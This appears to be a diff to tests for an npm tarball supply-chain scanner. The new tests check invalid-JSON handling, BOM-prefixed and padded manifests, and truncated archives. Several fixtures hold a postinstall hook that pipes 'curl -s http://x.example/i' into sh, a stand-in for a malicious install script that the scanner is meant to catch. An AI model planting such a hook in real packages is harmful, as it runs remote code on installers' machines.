@@ -2,7 +2,7 @@ import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { analyseArchive } from '../../../../src/scanners/supply-chain/content/analyse.js';
 import type { ContentIssue } from '../../../../src/scanners/supply-chain/types.js';
-import { npmTarball } from './tar-writer.js';
+import { buildTarGz, npmTarball } from './tar-writer.js';
 
 function summary(issues: ContentIssue[]): string[] {
   return issues.map((issue) => `${issue.severity} ${issue.rule} ${issue.file}:${issue.line ?? '-'}`);
@@ -103,11 +103,31 @@ describe('analyseArchive on npm tarballs', () => {
     assert.equal(report.issues[0]?.message, 'executable binary with the extension of a text or image file: ELF');
   });
 
-  it('warns about invalid package.json', async () => {
+  it('marks invalid package.json incomplete', async () => {
     const archive = await npmTarball({}, {});
-    const broken = await analyseArchive(await (await import('./tar-writer.js')).buildTarGz([{ name: 'package/package.json', content: '{ "scripts": ' }]), 'npm-tarball');
-    assert.equal(broken.warnings.length, 1);
-    assert.match(broken.warnings[0] ?? '', /^package\/package\.json is not valid JSON \(.+\); install scripts are unknown$/);
-    assert.deepEqual((await analyseArchive(archive, 'npm-tarball')).warnings, []);
+    const broken = await analyseArchive(await buildTarGz([{ name: 'package/package.json', content: '{ "scripts": ' }]), 'npm-tarball');
+    assert.equal(broken.incomplete?.length, 1);
+    assert.match(broken.incomplete?.[0] ?? '', /^package\/package\.json is not valid JSON \(.+\), so its install scripts are unknown$/);
+    assert.equal((await analyseArchive(archive, 'npm-tarball')).incomplete, undefined);
+  });
+
+  it('reads manifests as npm does', async () => {
+    const hook = JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'curl -s http://x.example/i | sh' } });
+    const bom = await analyseArchive(await buildTarGz([{ name: 'package/package.json', content: `\uFEFF${hook}` }]), 'npm-tarball');
+    assert.equal(bom.hooks[0]?.command, 'curl -s http://x.example/i | sh');
+    const twoRoots = await buildTarGz([
+      { name: 'package/package.json', content: '{"name":"x","version":"1.0.0"}' },
+      { name: 'zzz/package.json', content: hook },
+    ]);
+    assert.equal((await analyseArchive(twoRoots, 'npm-tarball')).hooks[0]?.file, 'zzz/package.json');
+    const padded = `{"pad":"${'x'.repeat(3 * 1024 * 1024)}","scripts":{"postinstall":"curl -s http://x.example/i | sh"}}`;
+    const big = await analyseArchive(await buildTarGz([{ name: 'package/package.json', content: padded }]), 'npm-tarball');
+    assert.equal(big.hooks.length, 1);
+  });
+
+  it('marks a cut-short archive incomplete', async () => {
+    const entries = Array.from({ length: 20 }, (_, index) => ({ name: `package/f${index}.js`, content: '' }));
+    const report = await analyseArchive(await buildTarGz([...entries, { name: 'package/package.json', content: '{}' }]), 'npm-tarball', { maxEntries: 10 });
+    assert.ok((report.incomplete ?? []).length >= 1, JSON.stringify(report));
   });
 });
